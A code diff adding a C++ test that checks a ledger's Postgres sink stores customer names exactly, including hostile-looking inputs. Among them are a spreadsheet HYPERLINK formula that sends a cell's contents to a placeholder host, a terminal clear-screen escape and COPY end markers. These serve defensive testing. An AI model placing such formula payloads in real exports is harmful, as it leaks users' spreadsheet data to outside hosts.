@@ -250,6 +250,48 @@ TEST_F(PostgresSinkTest, TablesEqualTheCsvExportsRowForRow) {
   ExpectConsistent();
 }
 
+// The tables hold the exact text of the events: the spreadsheet
+// neutralising of CSV files (a ' before a formula, control characters
+// escaped) is for files only, not for the COPY that moves rows into SQL.
+TEST_F(PostgresSinkTest, TextColumnsHoldTheEventsExactText) {
+  const std::vector<std::string> names = {"=HYPERLINK(\"http://x/?a=\"&A1,\"Click\")",
+                                          "Evil \x1b[2J; \"quoted\", \\. end", "'tis -1 @home +x",
+                                          "\\.", "tab\there\r\nnext"};
+  {
+    auto w = OpenLedgerAt(db_, false);
+    ledger::testing::EventFactory f;
+    for (size_t i = 0; i < names.size(); ++i) {
+      const std::string contract = "N-" + std::to_string(i + 1);
+      events::Event open = f.Open(contract);
+      open.customer = names[i];
+      AppendOrDie(w.get(), {open});
+      AppendOrDie(w.get(), Bookings(&f, contract, 2));
+    }
+  }
+  ASSERT_EQ(Ledgerctl(SinkArgs()), 0) << Err();
+  auto c = Db();
+  ASSERT_NE(c, nullptr);
+  std::vector<PgConnection::Row> rows;
+  ASSERT_TRUE(c->Query("SELECT m.contract, m.customer, e.payload->>'customer', e.contract FROM "
+                       "margins m JOIN events e ON e.contract = m.contract AND e.type = "
+                       "'ContractOpened' ORDER BY m.contract",
+                       &rows)
+                  .ok());
+  ASSERT_GE(rows.size(), names.size());
+  for (const PgConnection::Row& r : rows) {
+    const size_t i = std::stoul(r[0]->substr(2)) - 1;
+    ASSERT_LT(i, names.size());
+    EXPECT_EQ(*r[1], names[i]);
+    EXPECT_EQ(*r[2], names[i]);
+    EXPECT_EQ(*r[0], *r[3]);
+  }
+  EXPECT_EQ(Number(c.get(),
+                   "SELECT count(*) FROM balances b WHERE NOT EXISTS (SELECT 1 FROM events e "
+                   "WHERE e.contract = b.contract AND e.type = 'ContractOpened')"),
+            0u);
+  EXPECT_EQ(Number(c.get(), "SELECT count(DISTINCT contract) FROM balances"), names.size());
+}
+
 TEST_F(PostgresSinkTest, SigkillAtRandomMomentsThenRestartWritesEveryEventOnce) {
   const uint64_t head = Import(30, 120, 11);
   const char* seed_env = std::getenv("CCL_SINK_SEED");
